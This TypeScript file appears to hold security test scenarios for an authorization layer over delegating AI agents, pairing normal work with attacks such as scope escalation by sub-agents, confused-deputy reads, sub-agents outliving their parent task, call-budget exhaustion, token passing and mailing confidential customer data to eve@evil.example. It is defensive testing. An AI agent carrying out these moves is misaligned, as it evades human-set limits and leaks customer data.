/** Agents that work for agents, and for people with fewer rights than the agents have. */
import { replacing, withoutRule, type Scenario } from "../scenario.ts"
import { customer, isServed, isServedBelow, mail, refund, ticket, TICKETS } from "./calls.ts"
import { AMY, ANN, IDA } from "./people.ts"
import { answerTicket, calling, callingBelow, giveRefund, times } from "./work.ts"

const RESEARCHER = { agent: "researcher", purpose: "answer-ticket" }
const WRITER = { agent: "writer", purpose: "answer-ticket" }
const READS = ["crm.*:read"]
const SENDS = ["mail.send:write"]

export const SUB_AGENT_GETS_MORE: Scenario = {
  name: "A sub-agent requests more than the agent above it has",
  control: "the narrowing of a grant at each step of a delegation",
  work: callingBelow(
    { ...answerTicket(AMY), scope: READS },
    { ...WRITER, scope: ["crm.tickets.get:read"] },
    ticket("7"),
  ),
  attack: callingBelow({ ...answerTicket(ANN), scope: READS }, { ...WRITER, scope: SENDS }, mail("eve@evil.example")),
  isReached: isServed("POST", "/mail/messages"),
  denied: { code: "invalid_scope", reason: "nothing_left" },
  without: null,
  instead: {
    words: "the same request below a task that has the scope itself",
    attack: callingBelow({ ...answerTicket(ANN), scope: SENDS }, { ...WRITER, scope: SENDS }, mail("eve@evil.example")),
  },
}

export const DEPUTY_IS_CONFUSED: Scenario = {
  name: "A user who may see no customer has an agent look that may see all",
  control: "the rule that says which people may, whatever their agent may",
  work: calling({ ...answerTicket(AMY), scope: READS }, customer("42")),
  async attack(world) {
    // In a plain set-up, the agent calls with an account of its own, whichever user it works for.
    const user = world.narrowgate ? { person: IDA } : {}
    await calling({ agent: "desk", ...user, purpose: "answer-ticket", scope: READS }, customer("42"))(world)
  },
  isReached: isServed("GET", "/crm/customers/42"),
  denied: { code: "invalid_scope", reason: "nothing_left" },
  without: { "rules.cedar": replacing('principal in UserGroup::"support"', "principal is User") },
}

export const STRANGER_TAKES_OVER: Scenario = {
  name: "An agent takes part in the work of another one that may not delegate to it",
  control: "the list of agents that an agent may delegate to",
  work: callingBelow(answerTicket(AMY), RESEARCHER, TICKETS),
  attack: callingBelow(answerTicket(ANN), { agent: "visitor", purpose: "answer-ticket" }, customer("42")),
  isReached: isServed("GET", "/crm/customers/42"),
  denied: { code: "unauthorized_client", reason: "delegation_not_allowed" },
  without: {
    "agents.yaml": replacing("delegates_to: [", "delegates_to: [spiffe://example.org/agent/visitor, "),
  },
}

export const SUB_AGENT_SENDS: Scenario = {
  name: "An agent that read confidential data has a sub-agent send it out",
  control: "the rule that nothing leaves after confidential data was read anywhere in the tree of tasks",
  work: callingBelow(answerTicket(AMY), WRITER, mail("bob@company.example")),
  async attack(world) {
    const parent = await world.begin(answerTicket(ANN))
    await world.call(parent, customer("42"))
    await calling({ ...WRITER, parent }, mail("eve@evil.example", "42"))(world)
  },
  isReached: isServed("POST", "/mail/messages"),
  denied: { code: "policy_denied", reason: "policy_forbids" },
  without: { "rules.cedar": withoutRule("nothing-leaves-after-confidential") },
}

export const SUB_AGENTS_MULTIPLY: Scenario = {
  name: "An agent delegates again and again, and each sub-agent makes many calls",
  control: "the number of calls of the task at the root, which counts all below it",
  work: calling(giveRefund(AMY), ...times(15, (number) => ticket(`t-${number}`)), refund("o-1", 100)),
  async attack(world) {
    const parent = await world.begin(answerTicket(ANN))
    for (let child = 1; child <= 4; child++) {
      const calls = times(16, (number) => ticket(`${child}-${number}`))
      await calling({ ...RESEARCHER, parent }, ...calls)(world)
    }
  },
  isReached: isServedBelow("/crm/tickets/", 61),
  denied: { code: "budget_exhausted", reason: "calls_exhausted" },
  without: { "agents.yaml": replacing("calls: 60", "calls: 6000") },
}

export const SUB_AGENT_GOES_ON: Scenario = {
  name: "A sub-agent goes on after the task above it was completed",
  control: "the end of a task, which is the end of all below it",
  async work(world) {
    const parent = await world.begin(answerTicket(AMY))
    await calling({ ...RESEARCHER, parent }, TICKETS)(world)
    await world.complete(parent)
  },
  async attack(world) {
    const parent = await world.begin(answerTicket(ANN))
    const child = await world.begin({ ...RESEARCHER, parent })
    await world.complete(parent)
    await world.call(child, ticket("8"))
  },
  isReached: isServed("GET", "/crm/tickets/8"),
  denied: { code: "invalid_token", reason: "task_ended" },
  without: null,
  instead: { words: "the same call before the end", attack: callingBelow(answerTicket(ANN), RESEARCHER, ticket("8")) },
}

export const TOKEN_IS_PASSED_OFF: Scenario = {
  name: "An agent presents the token of another one, which has not delegated to it",
  control: "the hand-over that the other agent signs with its key",
  work: calling({ ...RESEARCHER, person: AMY }, ticket("7")),
  attack: callingBelow({ ...answerTicket(ANN), agent: "vault" }, RESEARCHER, ticket("8")),
  isReached: isServed("GET", "/crm/tickets/8"),
  denied: { code: "invalid_request", reason: "handover_required" },
  without: { "agents.yaml": replacing("bound_key: true", "bound_key: false") },
}
